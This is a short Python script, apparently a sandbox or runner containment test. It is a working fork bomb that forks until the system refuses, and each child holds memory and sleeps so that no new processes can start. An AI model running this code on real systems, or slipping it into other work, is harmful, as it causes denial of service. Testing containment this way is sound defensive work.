"""Ends while as many processes as there may be are dying, so that the runner finds no room for the next one."""

import os
import time

from attack import contained

held = bytearray(24 << 20)
contained("the processes are started")
while True:
    try:
        if os.fork() == 0:
            os.closerange(0, 1024)
            for at in range(0, len(held), 4096):
                held[at] = 1
                if at > 1 << 20:
                    break
            time.sleep(600)
    except OSError:
        break
os._exit(0)
